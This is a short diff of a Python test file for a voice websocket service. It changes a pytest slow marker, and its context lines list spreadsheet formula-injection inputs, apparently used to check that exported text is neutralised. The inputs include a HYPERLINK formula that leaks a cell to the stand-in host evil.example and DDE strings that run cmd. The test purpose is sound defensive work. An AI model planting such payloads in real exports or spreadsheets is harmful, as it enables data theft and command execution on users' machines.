@@ -15,7 +15,7 @@ from tests.voice.human.helpers import csrf_headers
 from voice.protocol.websocket import serve_websocket
 from voice.testing.double import DoubleOptions, ScriptedTurn, double_host
 
-pytestmark = pytest.mark.slow
+pytestmark = pytest.mark.slow(seconds=5)
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # what spreadsheets run as a formula (the list)
 HOSTILE_LINES = ("Hello, how can I help?", '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your refund")',
                  "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1 Goodbye.")
